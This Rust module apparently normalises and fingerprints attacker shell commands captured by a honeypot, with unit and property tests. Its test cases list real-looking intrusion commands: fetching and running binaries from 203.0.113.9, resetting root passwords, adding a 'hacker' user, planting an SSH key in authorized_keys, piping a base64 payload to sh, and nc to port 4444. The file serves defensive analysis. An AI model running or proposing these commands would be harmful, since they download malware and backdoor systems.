//! Commands without what varies from one run of an attack to the next, so that identical attacks are identical.
//!
//! **Invariant**: normalising is idempotent, and its work and its result are bounded whatever an attacker types.
//!
//! What is replaced stands as a word in angle brackets: `<url>`, `<ip>`, `<hex>`, `<base64>`, `<sshkey>`, `<password>`, `<file>`, `<random>`, `<n>`,
//! `<ctrl>`, `<cut>`. What tells attacks apart stays: programs, flags, paths of the system, the name in a key's comment, the user whose password is
//! set. One who types a placeholder gets a placeholder.

use std::{borrow::Cow, net::Ipv6Addr};

/// Of these rules: a change of any is a new version.
pub const VERSION: i16 = 1;

/// Most bytes of a normalised command.
const LONGEST: usize = 4_096;
/// Bytes of a command that are looked at.
const LOOKED_AT: usize = 4 * LONGEST;
/// Replacing may make a word of what was part of one: after so many passes it must be stable.
const PASSES: usize = 8;
/// A command that was not.
const UNSTABLE: &str = "<unstable>";

const PLACEHOLDERS: [&str; 12] = ["<url>", "<ip>", "<hex>", "<base64>", "<sshkey>", "<password>", "<file>", "<random>", "<n>", "<ctrl>", "<cut>", UNSTABLE];

/// A command in normal form, of at most 4 KiB.
pub fn normalise(command: &str) -> Cow<'_, str> {
    let mut normal = pass(cut(command, LOOKED_AT).as_ref());
    for _ in 0..PASSES {
        let again = pass(&normal);
        if again == normal {
            return if normal == command { Cow::Borrowed(command) } else { Cow::Owned(normal) };
        }
        normal = again;
    }
    Cow::Borrowed(UNSTABLE)
}

/// The identity of a sequence of normalised commands: 128 bits of BLAKE3 over a domain tag and the length-prefixed commands.
pub fn sequence_fingerprint<'a>(commands: impl IntoIterator<Item = &'a str>) -> [u8; 16] {
    let mut hasher = blake3::Hasher::new_derive_key("cowriestream 2026-11 command sequence");
    for command in commands {
        hasher.update(&(command.len() as u64).to_le_bytes());
        hasher.update(command.as_bytes());
    }
    let mut out = [0; 16];
    hasher.finalize_xof().fill(&mut out);
    out
}

/// At most `most` bytes, ending in `<cut>` if there was more; never cut within a placeholder.
fn cut(text: &str, most: usize) -> Cow<'_, str> {
    if text.len() <= most {
        return Cow::Borrowed(text);
    }
    let mut end = most - "<cut>".len();
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    if let Some(open) = text[..end].rfind('<')
        && PLACEHOLDERS.iter().any(|p| text[open..].starts_with(p) && open + p.len() > end)
    {
        end = open;
    }
    Cow::Owned(format!("{}<cut>", &text[..end]))
}

/// One pass over a command.
fn pass(text: &str) -> String {
    let mut scan = Scan { text, at: 0, out: String::with_capacity(text.len()), sets: Sets::of(text), before: "", quote: None };
    while scan.at < text.len() {
        scan.step();
    }
    let out = scan.out.trim_end();
    cut(out, LONGEST).into_owned()
}

/// What kind of password setting a command has in it.
#[derive(Clone, Copy)]
struct Sets {
    chpasswd: bool,
    passwd: bool,
    useradd: bool,
}

impl Sets {
    fn of(text: &str) -> Self {
        let chpasswd = text.contains("chpasswd");
        let passwd = text.match_indices("passwd").any(|(at, _)| {
            let before = text[..at].trim_end();
            // The program, fed by a pipe; not /etc/passwd, and not chpasswd.
            before.ends_with('|') || before.ends_with("|sudo") || before.ends_with("| sudo")
        });
        Self { chpasswd, passwd, useradd: text.contains("useradd") || text.contains("usermod") || text.contains("openssl") }
    }
}

struct Scan<'a> {
    text: &'a str,
    at: usize,
    out: String,
    sets: Sets,
    /// The word before.
    before: &'a str,
    /// The quote that is open.
    quote: Option<char>,
}

impl<'a> Scan<'a> {
    /// Takes what stands next: a placeholder, space, a separator, or a word.
    fn step(&mut self) {
        let rest = &self.text[self.at..];
        let Some(c) = rest.chars().next() else { return };
        if c == '<'
            && let Some(placeholder) = PLACEHOLDERS.iter().find(|p| rest.starts_with(**p))
        {
            self.before = "";
            return self.take(placeholder.len(), placeholder);
        }
        if c.is_whitespace() {
            let length = rest.find(|c: char| !c.is_whitespace()).unwrap_or(rest.len());
            let space = if self.out.is_empty() || self.out.ends_with(' ') { "" } else { " " };
            return self.take(length, space);
        }
        if c.is_control() {
            let length = rest.find(|c: char| !c.is_control() || c.is_whitespace()).unwrap_or(rest.len());
            let text = if self.out.ends_with("<ctrl>") { "" } else { "<ctrl>" };
            return self.take(length, text);
        }
        if let Some(length) = self.password(rest) {
            self.before = "";
            return self.take(length, "<password>");
        }
        if self.sets.chpasswd {
            let user = rest.len() - rest.trim_start_matches(is_of_user).len();
            if user > 0 && rest[user..].starts_with(':') {
                return self.take(user + 1, &rest[..=user]);
            }
        }
        if is_separator(c) {
            if c == '"' || c == '\'' {
                self.quote = if self.quote == Some(c) { None } else { self.quote.or(Some(c)) };
            }
            return self.take(c.len_utf8(), &rest[..c.len_utf8()]);
        }
        if let Some(length) = url(rest) {
            return self.take(length, "<url>");
        }
        let length = rest.find(|c: char| is_separator(c) || c.is_whitespace() || c.is_control()).unwrap_or(rest.len());
        self.word(&rest[..length], &rest[length..]);
    }

    fn take(&mut self, length: usize, text: &str) {
        self.out.push_str(text);
        self.at += length;
    }

    /// The length of a password that begins here, if one does.
    fn password(&self, rest: &str) -> Option<usize> {
        let here = &self.text[..self.at];
        let to_quote = || match self.quote {
            Some(quote) => rest.find(quote).unwrap_or(rest.len()),
            None => rest.find(|c: char| c.is_whitespace() || matches!(c, '|' | ';' | '&' | '"' | '\'' | '>' | '<' | ')')).unwrap_or(rest.len()),
        };
        let opened = self.quote.is_some_and(|quote| here.ends_with(quote));
        let starts = opened || here.ends_with(char::is_whitespace);
        let some = |length: usize| (length > 0 && !rest.starts_with("<password>")).then_some(length);
        if self.sets.chpasswd && here.ends_with(':') {
            let user = &here[..here.len() - 1];
            let led = user.trim_end_matches(is_of_user);
            if led.len() < user.len() && (led.is_empty() || led.ends_with(['"', '\'']) || led.ends_with(char::is_whitespace)) {
                return some(to_quote());
            }
        }
        if self.sets.passwd && starts && !rest.starts_with(['-', '|']) && (opened || rest[..to_quote()].contains("\\n")) {
            return some(to_quote());
        }
        if self.sets.useradd
            && (starts || self.before == "-p")
            && matches!(self.before, "-p" | "--password" | "-1" | "-5" | "-6" | "-apr1")
            && !rest.starts_with(['-', '"', '\'', '$'])
        {
            return some(to_quote());
        }
        None
    }

    /// Takes a word, as what it is.
    fn word(&mut self, word: &'a str, after: &str) {
        let before = std::mem::replace(&mut self.before, word);
        self.at += word.len();
        let out = &mut self.out;
        if word.matches("\\x").count() >= 2 || octal(word) {
            out.push_str("<hex>");
        } else if word.starts_with("AAAA") && word.len() >= 60 {
            out.push_str("<sshkey>");
            self.at += after.len() - after.trim_start_matches('=').len();
        } else if address(word) {
            out.push_str("<ip>");
        } else if hexadecimal(word) {
            out.push_str("<hex>");
        } else if base64(word) {
            out.push_str("<base64>");
            self.at += after.len() - after.trim_start_matches('=').len();
        } else if word.contains('/') {
            path(out, word);
        } else if before.ends_with("busybox") && applet(word) {
            out.push_str("<random>");
        } else if out.trim_end().ends_with("<sshkey>") || out.ends_with('$') || before == "chmod" || after.starts_with('>') || out.ends_with(">&") {
            out.push_str(word);
        } else {
            plain(out, word);
        }
    }
}

/// What the name of a user is made of.
fn is_of_user(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')
}

/// What ends a word.
fn is_separator(c: char) -> bool {
    matches!(c, '"' | '\'' | '`' | ';' | '|' | '&' | '<' | '>' | '(' | ')' | '{' | '}' | '[' | ']' | ',' | '=' | '$' | '!' | '*' | '?' | '#' | '@' | '~' | '^')
}

/// The length of a URL here: a scheme, or an address or a domain followed by a path.
fn url(rest: &str) -> Option<usize> {
    let end =
        || rest.find(|c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | ';' | '|' | '<' | '>' | ')' | '}')).unwrap_or(rest.len());
    let scheme = rest.bytes().take(8).take_while(u8::is_ascii_alphabetic).count();
    if scheme >= 2 && rest[scheme..].starts_with("://") {
        return Some(end()).filter(|&end| end > scheme + 3);
    }
    let host = &rest[..rest.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))).unwrap_or(rest.len())];
    let path = rest[host.len()..].starts_with('/');
    (path && (address(host) || domain(host))).then(end)
}

/// `host.tld`, perhaps with a port.
fn domain(host: &str) -> bool {
    let name = host.split(':').next().unwrap_or_default();
    let mut labels = name.rsplit('.');
    let top = labels.next().unwrap_or_default();
    let mut others = labels.peekable();
    others.peek().is_some() && others.all(|label| !label.is_empty()) && (2..=6).contains(&top.len()) && top.bytes().all(|b| b.is_ascii_lowercase())
}

/// An address, perhaps with a port.
fn address(word: &str) -> bool {
    let four = word.split(':').next().unwrap_or_default();
    let mut parts = 0;
    let dotted = four.split('.').all(|part| {
        parts += 1;
        (1..=3).contains(&part.len()) && part.bytes().all(|b| b.is_ascii_digit())
    });
    let port = word[four.len()..].strip_prefix(':').is_none_or(|port| port.bytes().all(|b| b.is_ascii_digit()));
    (dotted && parts == 4 && port) || (word.matches(':').count() >= 2 && word.parse::<Ipv6Addr>().is_ok())
}

/// `\177\105\114` …
fn octal(word: &str) -> bool {
    let escapes = word.as_bytes().windows(2).filter(|pair| pair[0] == b'\\' && pair[1].is_ascii_digit()).count();
    escapes >= 3
}

/// `0x…`, or at least 16 hexadecimal digits.
fn hexadecimal(word: &str) -> bool {
    let digits = word.strip_prefix("0x").or_else(|| word.strip_prefix("0X"));
    let all = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_hexdigit());
    digits.is_some_and(all) || (word.len() >= 16 && all(word) && word.bytes().any(|b| b.is_ascii_digit()))
}

/// At least 24 characters of the alphabet, of three kinds, and not a path.
fn base64(word: &str) -> bool {
    if word.len() < 24 || !word.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_')) {
        return false;
    }
    let kinds = [u8::is_ascii_uppercase, u8::is_ascii_lowercase, u8::is_ascii_digit].iter().filter(|is| word.bytes().any(|b| is(&b))).count();
    kinds == 3 && word.bytes().filter(|&b| b == b'/').count() * 12 <= word.len() && !word.starts_with(['/', '-'])
}

/// Where attackers put their files: what lies below is theirs.
const DROPS: [&str; 13] =
    ["/tmp/", "/var/tmp/", "/dev/shm/", "/var/run/", "/run/", "/mnt/", "/var/lock/", "/data/local/tmp/", "/dev/netslink/", "/opt/", "/srv/", "./", "../"];

/// A path: the name of a dropped file is replaced, and numbers and random names among the others.
fn path(out: &mut String, word: &str) {
    if let Some(drop) = DROPS.iter().find(|drop| word.starts_with(**drop)) {
        out.push_str(drop);
        if word.len() > drop.len() {
            out.push_str("<file>");
        }
        return;
    }
    for (n, name) in word.split('/').enumerate() {
        if n > 0 {
            out.push('/');
        }
        plain(out, name);
    }
}

/// All that busybox has no applet for: Mirai and its kin ask for one to see who answers.
fn applet(word: &str) -> bool {
    (3..=16).contains(&word.len()) && word.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit())
}

/// A number (perhaps with a unit), a random name, or a word.
fn plain(out: &mut String, word: &str) {
    let digits = word.bytes().take_while(|b| b.is_ascii_digit() || *b == b'.').count();
    if digits > 0 && word.as_bytes()[0].is_ascii_digit() && word.len() - digits <= 1 && word[digits..].bytes().all(|b| b.is_ascii_alphabetic()) {
        out.push_str("<n>");
        out.push_str(&word[digits..]);
    } else if random(word) {
        out.push_str("<random>");
    } else {
        out.push_str(word);
    }
}

/// Whether a name looks as if nobody had chosen it: letters and digits in turns, case in turns, or a long run of consonants.
fn random(word: &str) -> bool {
    if !(6..=64).contains(&word.len()) || !word.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-')) || word.starts_with('-') {
        return false;
    }
    let (mut turns, mut cases, mut run, mut longest) = (0, 0, 0, 0);
    for pair in word.as_bytes().windows(2) {
        turns += u32::from(pair[0].is_ascii_alphabetic() && pair[1].is_ascii_digit() || pair[0].is_ascii_digit() && pair[1].is_ascii_alphabetic());
        cases += u32::from(pair[0].is_ascii_lowercase() && pair[1].is_ascii_uppercase());
    }
    for b in word.bytes() {
        run = if b.is_ascii_alphabetic() && !b"aeiouyAEIOUY".contains(&b) { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    turns >= 3 || (cases >= 2 && turns >= 1) || cases >= 3 || (longest >= 6 && word.len() >= 7)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_varies_is_replaced_and_what_tells_attacks_apart_stays() {
        for (command, normal) in [
            ("  uname   -s -v -n -r -m ", "uname -s -v -n -r -m"),
            ("cd /tmp; wget http://203.0.113.9/bins/x86 -O .x; chmod 777 .x; ./.x ssh", "cd /tmp; wget <url> -O .x; chmod 777 .x; ./<file> ssh"),
            ("cd /tmp || cd /var/run || cd /mnt; wget 203.0.113.9/ohshit.sh; sh ohshit.sh", "cd /tmp || cd /var/run || cd /mnt; wget <url>; sh ohshit.sh"),
            ("tftp -g -r tftp1.sh 203.0.113.9", "tftp -g -r tftp1.sh <ip>"),
            ("/bin/busybox QVKZD", "/bin/busybox <random>"),
            ("/bin/busybox cat /proc/self/exe || cat /proc/1234/exe", "/bin/busybox cat /proc/self/exe || cat /proc/<n>/exe"),
            (r#"echo "root:Zx9(kQ1;aa"|chpasswd|bash"#, r#"echo "root:<password>"|chpasswd|bash"#),
            (r#"echo root:Zx9kQ1 | chpasswd"#, "echo root:<password> | chpasswd"),
            (r#"echo -e "123456\nQ1w2\nQ1w2"|passwd|bash"#, r#"echo -e "<password>"|passwd|bash"#),
            (r#"echo "123456\nabc\nabc\n"|passwd"#, r#"echo "<password>"|passwd"#),
            ("useradd -m -p Xy12 hacker", "useradd -m -p <password> hacker"),
            (r"echo -ne '\x7f\x45\x4c\x46' > /tmp/.f3a", "echo -ne '<hex>' > /tmp/<file>"),
            ("cat /proc/cpuinfo | grep name | wc -l", "cat /proc/cpuinfo | grep name | wc -l"),
            ("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'", "cat /proc/cpuinfo | grep name | head -n <n> | awk '{print $4,$5,$6}'"),
            ("dd bs=52 count=1 if=.s || cat .s", "dd bs=<n> count=<n> if=.s || cat .s"),
            ("free -m | grep Mem 2>&1", "free -m | grep Mem 2>&1"),
            ("kill -9 4711; rm -rf /tmp/*", "kill -9 <n>; rm -rf /tmp/*"),
            (
                "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1== mdrfckr\">>.ssh/authorized_keys",
                "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa <sshkey> mdrfckr\">>.ssh/authorized_keys",
            ),
            ("echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjkveA== | base64 -d | sh", "echo <base64> | base64 -d | sh"),
            ("wget 'https://example.com/a?b=c&d=1' ;curl -O example.org/x.sh", "wget '<url>' ;curl -O <url>"),
            ("ping 2001:db8::1; nc 203.0.113.9:4444", "ping <ip>; nc <ip>"),
            ("echo \u{1b}[31mred\u{7}\u{7}", "echo <ctrl>[31mred<ctrl>"),
            ("./x1f3k2", "./<file>"),
            ("a7Gk2pQ9 --help", "<random> --help"),
            ("", ""),
        ] {
            assert_eq!(normalise(command), normal, "{command}");
        }
    }

    #[test]
    fn it_is_bounded() {
        for text in ["a".repeat(1 << 20), " ".repeat(1 << 20), "/1".repeat(1 << 19), "<n>".repeat(1 << 18), "\\x41".repeat(1 << 18), "5 ".repeat(1 << 19)] {
            assert!(normalise(&text).len() <= LONGEST);
        }
    }

    #[test]
    fn a_sequence_has_one_fingerprint() {
        assert_ne!(sequence_fingerprint(["ab", "c"]), sequence_fingerprint(["a", "bc"]));
        assert_eq!(u128::from_be_bytes(sequence_fingerprint(["uname -a", "exit"])), 127_666_891_213_183_121_057_402_745_799_182_716_955, "frozen");
    }

    fn part() -> impl Strategy<Value = String> {
        let fixed = [
            " ",
            ";",
            "|",
            "\"",
            "'",
            "<",
            ">",
            ":",
            "/",
            "\\n",
            "\\x41",
            "<n>",
            "<file>",
            "<password>",
            "<cut",
            "$(",
            "root:",
            "passwd",
            "|passwd",
            "chpasswd",
            "openssl passwd -1 ",
            "useradd -p ",
            "/tmp/",
            "./",
            "/proc/12/",
            "http://",
            "1.2.3.4",
            "::1",
            "AAAA",
            "busybox ",
            "chmod 755",
            "2>&1",
            "=",
            "\u{1b}",
            "ä",
        ];
        prop_oneof![4 => prop::sample::select(fixed.to_vec()).prop_map(str::to_owned), 1 => "[a-zA-Z0-9]{1,30}", 1 => any::<char>().prop_map(String::from)]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]
        #[test]
        fn it_is_idempotent(parts in prop::collection::vec(part(), 0..60)) {
            let command = parts.concat();
            let normal = normalise(&command);
            prop_assert!(normal.len() <= LONGEST);
            let again = normalise(&normal);
            prop_assert_eq!(&again, &normal);
        }
    }
}
